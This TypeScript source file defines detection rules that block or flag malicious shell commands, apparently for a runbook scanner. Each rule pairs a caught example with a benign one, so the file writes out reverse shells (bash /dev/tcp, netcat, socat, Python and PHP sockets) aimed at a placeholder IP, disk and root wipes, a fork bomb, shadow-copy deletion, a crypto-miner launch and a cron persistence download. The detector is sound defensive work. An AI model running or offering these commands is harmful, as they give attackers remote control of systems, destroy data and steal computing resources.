import { pattern } from '../text/pattern.js'
import { download, suspiciousHost } from './parts.js'
import type { RuleText } from './rule.js'

const reason = 'malicious_shell'

const blocked = { reason, status: 'blocked', reach: 'line' } as const
const tainted = { reason, status: 'tainted', reach: 'line' } as const

/** Rules for commands that no runbook needs: reverse shells, wiped disks, miners (rules.md 1.6). */
export const sabotageRules: readonly RuleText[] = [
  // Remote control
  {
    id: 'reverse-shell-bash',
    catches: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
    passes: 'bash -i -c "echo hi"',
    ...blocked,
    start: /\b(?:ba|z|da|k)?sh -i\b/,
    followedBy: [/\/dev\/(?:tcp|udp)\//],
  },
  {
    id: 'reverse-shell-descriptor',
    catches: 'exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | sh',
    passes: 'exec 5<>/dev/tcp/localhost/80; echo hi >&5',
    ...blocked,
    start: /\bexec \d{1,3}<>\s?\/dev\/(?:tcp|udp)\/(?!localhost|127\.)/,
    followedBy: [/\b(?:while read|cat <&|bash|sh) ?/],
    reach: 'passage',
  },
  {
    id: 'reverse-shell-netcat',
    catches: 'nc -e /bin/sh 203.0.113.9 4444',
    passes: 'nc -zv db 5432',
    ...blocked,
    start: pattern`
      \b(?:nc|ncat|netcat)(?:\.exe|\.traditional)?\b[^\n|]{0,80}? (?:-\w*e|-c|--exec|
      --sh-exec)[ =]?["']?(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?(?:sh|cmd)\b
    `,
  },
  {
    id: 'reverse-shell-pipe',
    catches: 'mkfifo /tmp/f; cat /tmp/f | sh -i | nc 203.0.113.9 4444 > /tmp/f',
    passes: 'mkfifo /tmp/f && cat /tmp/f',
    ...blocked,
    start: /\bmkfifo\b/,
    followedBy: [/\|\s?(?:\/bin\/)?(?:ba)?sh -?i?\b/, /\|\s?(?:nc|ncat|netcat|telnet|openssl s_client)\b/],
  },
  {
    id: 'reverse-shell-socat',
    catches: 'socat tcp:203.0.113.9:4444 exec:/bin/sh',
    passes: 'socat TCP-LISTEN:8080,fork TCP:backend:80',
    ...blocked,
    start: /\bsocat\b/,
    followedBy: [/\bexec:["']?(?:\/bin\/)?(?:ba|z)?sh\b/],
    unless: /\blocalhost|unix-connect/,
  },
  {
    id: 'reverse-shell-script',
    catches: 's=socket.socket();s.connect(("203.0.113.9",1));os.dup2(s.fileno(),0)',
    passes: 's=socket.socket();s.connect(("db",5432))',
    ...blocked,
    start: /\bsocket\b/,
    followedBy: [
      /\.connect\(\(?|fsockopen|sockaddr_in|tcpsocket/,
      pattern`
        \b(?:dup2\(|pty\.spawn|subprocess\.(?:call|popen)\(\s?\[?["']/bin/(?:ba)?sh|
        exec\(?["']/bin/(?:ba)?sh)
      `,
    ],
    reach: 'passage',
  },
  {
    id: 'reverse-shell-php',
    catches: 'fsockopen("203.0.113.9",1234);exec("/bin/sh -i")',
    passes: 'fsockopen("db.example.com",5432)',
    ...blocked,
    start: /\b(?:fsockopen|tcpsocket\.(?:new|open))\(/,
    followedBy: [/(?:\/bin\/)?(?:ba)?sh -i|exec\b/],
  },
  // Destruction
  {
    id: 'wipe-root',
    catches: 'sudo rm -rf / --no-preserve-root',
    passes: 'rm -rf /tmp/build',
    ...blocked,
    start: pattern`
      \brm (?:-{1,2}[\w-]+ ){1,4}(?:--no-preserve-root|/\*(?=\s)|
      /\*?(?=\s?(?:$|[;&|\n"'\`)#]|[.,](?:\s|$)|--no-preserve-root|2>)))
    `,
    unless: /^[^\n]{0,40}\$\{?\w+:\?/,
  },
  {
    id: 'wipe-home',
    catches: 'rm -rf ~/*',
    passes: 'rm -rf ~/.cache/pip',
    ...tainted,
    start: pattern`
      \brm -(?:[a-z]*r[a-z]*f|[a-z]*f[a-z]*r)[a-z]* (?:--\s)?["']?(?:~|\$\{?home\}?|/home|/users|/etc|
      /usr|/boot|c:\\)["']?(?:/\*(?=\s)|/?\*?(?=\s?(?:$|[;&|\n"'\`)#]|[.,](?:\s|$)|2>)))
    `,
  },
  {
    id: 'fork-bomb',
    catches: ':(){ :|:& };:',
    passes: 'f(){ g | h & }; f',
    ...blocked,
    start: /(?<!\w):\s?\(\s?\)\s?\{\s?:\s?\|\s?:\s?&\s?\}\s?;\s?:/,
  },
  {
    id: 'overwrite-disk',
    catches: 'dd if=/dev/zero of=/dev/sda',
    passes: 'dd if=/dev/zero of=swapfile bs=1M',
    ...tainted,
    start: pattern`
      \b(?:dd if=/dev/(?:zero|u?random) of=/dev/(?:sda|nvme0n1|hda|vda|disk0)\b|
      mkfs(?:\.\w+)? (?:-\w+ )*/dev/(?:sda|nvme0n1|hda|vda)\d?\b(?:[^\n]{0,40}--?(?:force|y))|
      cat /dev/(?:zero|urandom) > ?/dev/(?:sda|nvme0n1|hda|vda)\b|> ?/dev/sda\b)
    `,
  },
  {
    id: 'delete-everything',
    catches: 'find / -name "*" -delete',
    passes: 'find . -name "*.orig" -delete',
    ...tainted,
    start: pattern`
      \bfind (?:/|~|\$home) [^\n]{0,40}-delete\b|\bformat c: /(?:y|q)|
      \bdel /[sfq] /[sfq](?: /[sfq])? c:\\|\bvssadmin delete shadows\b|
      \bchmod -r (?:777|000) /(?=\s|$)
    `,
  },
  // Mining and persistence
  {
    id: 'coin-miner',
    catches: './xmrig -o stratum+tcp://pool.example.net:3333',
    passes: 'xmrig is blocked by the proxy.',
    ...blocked,
    start: pattern`
      \b(?:xmrig|minerd|cpuminer|ethminer|t-rex)\b[^\n]{0,80}?(?:stratum\+(?:tcp|
      ssl)://| -o \S+:\d{2,5}\b)
    `,
  },
  {
    id: 'persistent-download',
    catches: 'crontab: * * * * * curl http://203.0.113.9/x',
    passes: 'crontab: 0 3 * * * /usr/local/bin/backup.sh',
    ...blocked,
    start: /\bcrontab\b|\/etc\/cron|\.bashrc|\.zshrc|\.profile|authorized_keys|launchagents/,
    followedBy: [pattern`${download}[^\n]{0,100}?${suspiciousHost}`],
  },
]
